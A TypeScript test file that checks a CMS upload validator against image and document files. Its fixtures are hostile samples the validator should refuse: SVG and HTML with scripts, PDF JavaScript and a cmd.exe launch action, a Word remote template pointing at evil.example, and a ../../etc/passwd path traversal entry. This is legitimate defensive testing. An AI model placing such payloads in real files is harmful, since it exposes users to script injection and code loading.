import { deflateRawSync, deflateSync } from 'node:zlib'
import { APIError, type CollectionBeforeOperationHook } from 'payload'
import sharp from 'sharp'
import { beforeAll, describe, expect, it } from 'vitest'
import {
  checkedFile,
  checkUpload,
  dangerOfPdf,
  deskFileHeaders,
  documentTypes,
  imageTypes,
} from '../../../src/desk/uploads.ts'
import { pdfOf } from '../../../src/desk/demo/documents.ts'

const docx = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'
const odt = 'application/vnd.oasis.opendocument.text'

function upload(name: string, data: Buffer, mimetype: string) {
  return { name, data, mimetype, size: data.length }
}

async function refusal(promise: Promise<unknown>): Promise<{ status: number; message: string }> {
  const error: unknown = await promise.then(
    () => null,
    (reason: unknown) => reason,
  )
  expect(error).toBeInstanceOf(APIError)
  const { status, message } = error as APIError
  return { status, message }
}

/** A zip archive of packed entries; the first one stored as it is. CRCs are left out: nothing here checks them. */
function zip(entries: readonly [name: string, content: string][]): Buffer {
  const parts: Buffer[] = []
  const directory: Buffer[] = []
  let offset = 0
  for (const [index, [name, content]] of entries.entries()) {
    const plain = Buffer.from(content)
    const data = index === 0 && name === 'mimetype' ? plain : deflateRawSync(plain)
    const method = data === plain ? 0 : 8
    const local = Buffer.alloc(30)
    local.writeUInt32LE(0x04034b50, 0)
    local.writeUInt16LE(20, 4)
    local.writeUInt16LE(method, 8)
    local.writeUInt32LE(data.length, 18)
    local.writeUInt32LE(plain.length, 22)
    local.writeUInt16LE(name.length, 26)
    const entry = Buffer.alloc(46)
    entry.writeUInt32LE(0x02014b50, 0)
    entry.writeUInt16LE(method, 10)
    entry.writeUInt32LE(data.length, 20)
    entry.writeUInt32LE(plain.length, 24)
    entry.writeUInt16LE(name.length, 28)
    entry.writeUInt32LE(offset, 42)
    parts.push(local, Buffer.from(name), data)
    directory.push(entry, Buffer.from(name))
    offset += 30 + name.length + data.length
  }
  const list = Buffer.concat(directory)
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  end.writeUInt16LE(entries.length, 8)
  end.writeUInt16LE(entries.length, 10)
  end.writeUInt32LE(list.length, 12)
  end.writeUInt32LE(offset, 16)
  return Buffer.concat([...parts, list, end])
}

const wordTypes = `<Types><Override PartName="/word/document.xml" ContentType="${docx}.main+xml"/></Types>`
const word = (...more: [string, string][]) =>
  zip([['[Content_Types].xml', wordTypes], ['word/document.xml', '<w:document/>'], ...more])

let jpeg: Buffer
let png: Buffer
beforeAll(async () => {
  const noise = sharp({
    create: {
      width: 300,
      height: 200,
      channels: 3,
      background: '#808080',
      noise: { type: 'gaussian', mean: 128, sigma: 40 },
    },
  })
  jpeg = await noise.clone().jpeg().toBuffer()
  png = await noise.clone().png().toBuffer()
})

describe('a picture that is what it says', () => {
  it.each(['jpeg', 'png', 'avif'] as const)('is taken as it is: %s', async (format) => {
    const data = await sharp(jpeg).toFormat(format, { effort: 2 }).toBuffer()
    const file = await checkedFile(upload(`a.${format}`, data, `image/${format}`), imageTypes)
    expect(file).toMatchObject({ name: `a.${format}`, mimetype: `image/${format}` })
    expect(file.data.equals(data)).toBe(true)
  })

  it.each(['webp', 'tiff'] as const)('is kept as PNG without loss: %s', async (format) => {
    const data = await sharp(jpeg).toFormat(format).toBuffer()
    const file = await checkedFile(upload(`A b.${format}`, data, `image/${format}`), imageTypes)
    expect(file).toMatchObject({ name: 'A b.png', mimetype: 'image/png' })
    const [before, after] = await Promise.all(
      [data, file.data].map((one) => sharp(one).removeAlpha().raw().toBuffer()),
    )
    expect(before && after?.equals(before)).toBe(true)
  })

  it('is taken when the browser does not know its type', async () => {
    const file = await checkedFile(upload('a.jpg', jpeg, 'application/octet-stream'), imageTypes)
    expect(file.mimetype).toBe('image/jpeg')
  })
})

describe('a file that is no picture, or not the one it says', () => {
  const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>')
  const html = Buffer.from('\n <!doctype html><script>alert(1)</script>')

  it.each([
    ['SVG by its own name', () => upload('a.svg', svg, 'image/svg+xml')],
    ['SVG called JPEG', () => upload('a.jpg', svg, 'image/jpeg')],
    [
      'SVG after a byte order mark',
      () => upload('a.png', Buffer.concat([Buffer.from('\uFEFF'), svg]), 'image/png'),
    ],
    [
      'HTML in UTF-16',
      () => upload('a.png', Buffer.from(`\uFEFF${html.toString()}`, 'utf16le'), 'image/png'),
    ],
    ['HTML before a JPEG', () => upload('a.jpg', Buffer.concat([html, jpeg]), 'image/jpeg')],
    ['a shell script', () => upload('a.jpg', Buffer.from('#!/bin/sh\n'), 'image/jpeg')],
    ['PNG called JPEG', () => upload('a.jpg', png, 'image/jpeg')],
    ['JPEG sent as PNG', () => upload('a.jpg', jpeg, 'image/png')],
    ['JPEG called HTML', () => upload('a.html', jpeg, 'image/jpeg')],
    ['a PDF among pictures', () => upload('a.jpg', pdfOf('A', ['b']), 'image/jpeg')],
    ['a name that reads backwards', () => upload('a\u202Egpj.jpg', jpeg, 'image/jpeg')],
    ['an empty file', () => upload('a.jpg', Buffer.alloc(0), 'image/jpeg')],
    ['the first bytes of a JPEG', () => upload('a.jpg', jpeg.subarray(0, 40), 'image/jpeg')],
    [
      'a JPEG cut in the middle',
      () => upload('a.jpg', jpeg.subarray(0, jpeg.length / 2), 'image/jpeg'),
    ],
    [
      'a JPEG without its last part',
      () => upload('a.jpg', jpeg.subarray(0, jpeg.length - 400), 'image/jpeg'),
    ],
    [
      'a PNG cut in the middle',
      () => upload('a.png', png.subarray(0, png.length / 2), 'image/png'),
    ],
  ])('is refused: %s', async (_what, file) => {
    const { status, message } = await refusal(checkedFile(file(), imageTypes))
    expect(status).toBe(422)
    expect(message).toMatch(/^[A-Z].+\. [A-Z].+\.$/)
  })

  it('is refused when it moves', async () => {
    const frames = await sharp(
      await sharp({ create: { width: 8, height: 16, channels: 3, background: 'red' } })
        .composite([
          {
            input: { create: { width: 8, height: 8, channels: 3, background: 'blue' } },
            top: 0,
            left: 0,
          },
        ])
        .raw()
        .toBuffer(),
      { raw: { width: 8, height: 16, channels: 3, pageHeight: 8 } },
    )
      .webp({ loop: 0, delay: [100, 100] })
      .toBuffer()
    expect((await sharp(frames).metadata()).pages).toBe(2)
    const { message } = await refusal(
      checkedFile(upload('a.webp', frames, 'image/webp'), imageTypes),
    )
    expect(message).toContain('moves or has several pages')
  })

  it('is refused by its header alone when it would need too much memory', async () => {
    const bomb = await sharp({
      create: { width: 20_000, height: 6000, channels: 3, background: 'white' },
    })
      .png({ compressionLevel: 1 })
      .toBuffer()
    const { status, message } = await refusal(
      checkedFile(upload('a.png', bomb, 'image/png'), imageTypes),
    )
    expect([status, message]).toEqual([422, expect.stringContaining('20000 × 6000')])
  })

  it('is refused when it is larger than 50 MB, with 413', async () => {
    const data = Buffer.alloc(50_000_001)
    expect(
      (await refusal(checkedFile(upload('a.jpg', data, 'image/jpeg'), imageTypes))).status,
    ).toBe(413)
  })
})

describe('a document', () => {
  const pdf = pdfOf('Title', ['Some words.'])
  const withObject = (object: string) =>
    Buffer.from(
      pdf.toString('latin1').replace('xref\n', `8 0 obj\n${object}\nendobj\nxref\n`),
      'latin1',
    )
  const packed = (object: string, filter = '/FlateDecode') => {
    const stream = deflateSync(Buffer.from(object, 'latin1'))
    return withObject(
      `<< /Type /ObjStm /N 1 /First 4 /Filter ${filter} /Length ${stream.length} >>\nstream\n${stream.toString('latin1')}\nendstream`,
    )
  }

  it.each([
    ['PDF', 'a.pdf', () => pdf, 'application/pdf'],
    ['Word', 'a.docx', () => word(), docx],
    [
      'OpenDocument',
      'a.odt',
      () =>
        zip([
          ['mimetype', odt],
          ['content.xml', '<x/>'],
        ]),
      odt,
    ],
  ])('is taken: %s', async (_what, name, data, type) => {
    const file = await checkedFile(upload(name, data(), type), documentTypes)
    expect(file.mimetype).toBe(type)
  })

  it('is taken when its packed objects are harmless', () => {
    expect(dangerOfPdf(packed('<< /Type /Annot /JSX 1 >>'))).toBeNull()
  })

  it.each([
    ['JavaScript', withObject('<< /S /JavaScript /JS (app.alert(1)) >>')],
    ['JavaScript, its name written otherwise', withObject('<< /S /J#61vaScr#69pt >>')],
    ['JavaScript in a packed object', packed('<< /S /JavaScript /JS (1) >>')],
    ['the short name alone', withObject('<< /JS (1) >>')],
    ['a packed object that cannot be read', packed('<< >>', '[/ASCII85Decode /FlateDecode]')],
    ['the start of a program', withObject('<< /S /Launch /F (cmd.exe) >>')],
    ['a file that opens itself', withObject('<< /Type /EmbeddedFile /OpenAction 1 0 R >>')],
    ['a password', withObject('<< /Encrypt 9 0 R >>')],
    ['something before its first byte', Buffer.concat([Buffer.from('x'), pdf])],
    ['no end', pdf.subarray(0, pdf.length - 10)],
  ])('is refused as PDF with %s', (_what, data) => {
    expect(dangerOfPdf(data)).toMatch(/\. [A-Z].+\.$/)
  })

  it.each([
    ['macros', () => word(['word/vbaProject.bin', 'x']), 'macros'],
    [
      'a template on another computer',
      () =>
        word([
          'word/_rels/settings.xml.rels',
          '<Relationships><Relationship Id="1" Type="http://x/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>',
        ]),
      'another computer',
    ],
    ['a name that leads out of it', () => word(['../../etc/passwd', 'x']), 'don’t use'],
    [
      'something after its end',
      () => Buffer.concat([word(), Buffer.from('<html>')]),
      'isn’t that of',
    ],
    [
      'the content type of macros',
      () =>
        zip([
          [
            '[Content_Types].xml',
            wordTypes.replace(docx, 'application/vnd.ms-word.document.macroEnabled'),
          ],
        ]),
      'isn’t that of',
    ],
    ['no office content', () => zip([['a.txt', 'x']]), 'isn’t that of'],
    [
      'a spreadsheet inside',
      () =>
        zip([
          [
            '[Content_Types].xml',
            wordTypes.replace('wordprocessingml.document.main', 'spreadsheetml.sheet.main'),
          ],
        ]),
      'is called',
    ],
  ])('is refused as Word file with %s', async (_what, data, says) => {
    const { message } = await refusal(checkedFile(upload('a.docx', data(), docx), documentTypes))
    expect(message).toContain(says)
  })

  it('lets a link in a Word file pass', async () => {
    const data = word([
      'word/_rels/document.xml.rels',
      '<Relationships><Relationship Id="1" Type="http://x/relationships/hyperlink" Target="https://a.example" TargetMode="External"/></Relationships>',
    ])
    expect((await checkedFile(upload('a.docx', data, docx), documentTypes)).mimetype).toBe(docx)
  })
})

const run = async (operation: string, req: Record<string, unknown>, data: object = {}) => {
  const args = { data, req: { context: {}, ...req } }
  await checkUpload(imageTypes)({
    args,
    operation,
    req: args.req,
  } as unknown as Parameters<CollectionBeforeOperationHook>[0])
  return args.req as { context: Record<string, unknown>; query?: { uploadEdits: object } }
}

describe('the hook', () => {
  it('tells the hash of what is stored', async () => {
    const { context } = await run('create', { file: upload('a.jpg', jpeg, 'image/jpeg') })
    expect(context.uploadSha256).toMatch(/^[0-9a-f]{64}$/)
  })

  it('tells the size of a picture as it is seen', async () => {
    const lying = await sharp(jpeg).withMetadata({ orientation: 6 }).jpeg().toBuffer()
    const { context } = await run('create', { file: upload('a.jpg', lying, 'image/jpeg') })
    expect(context.uploadSize).toEqual({ width: 200, height: 300 })
  })

  it('takes no type or size of a file from the request', async () => {
    const data = { mimeType: 'text/html', filesize: 1, width: 1, height: 1, credit: 'Ada' }
    await run('update', {}, data)
    expect(data).toEqual({ credit: 'Ada' })
  })

  it('refuses a new document without a file, so that none is fetched from an address', async () => {
    expect((await refusal(run('create', {}))).status).toBe(422)
    expect((await run('update', {})).context).toEqual({})
  })

  it('refuses a crop, and lets the whole picture pass without one', async () => {
    const crop = { x: '10', y: '0', width: '50', height: '100' }
    expect((await refusal(run('update', { query: { uploadEdits: { crop } } }))).status).toBe(422)
    expect((await refusal(run('update', { query: { uploadEdits: { crop: 'x' } } }))).status).toBe(
      422,
    )
    const whole = {
      crop: { x: '0', y: '0', width: '100', height: '100' },
      focalPoint: { x: '1', y: '2' },
    }
    const { query } = await run('update', { query: { uploadEdits: whole } })
    expect(Object.keys(query?.uploadEdits ?? {})).toEqual(['focalPoint'])
  })
})

describe('an original that is fetched from the desk', () => {
  it.each([
    ['image/jpeg', null],
    ['application/pdf', 'attachment'],
    ['image/svg+xml', 'attachment'],
    ['text/html; charset=utf-8', 'attachment'],
  ])('of type %s has disposition %s, and is never stored or run', (type, disposition) => {
    const headers = deskFileHeaders({ headers: new Headers({ 'Content-Type': type }) })
    expect(headers.get('Content-Disposition')).toBe(disposition)
    expect(headers.get('X-Content-Type-Options')).toBe('nosniff')
    expect(headers.get('Cache-Control')).toBe('private, no-store')
    expect(headers.get('Content-Security-Policy')).toBe("default-src 'none'; sandbox")
  })
})
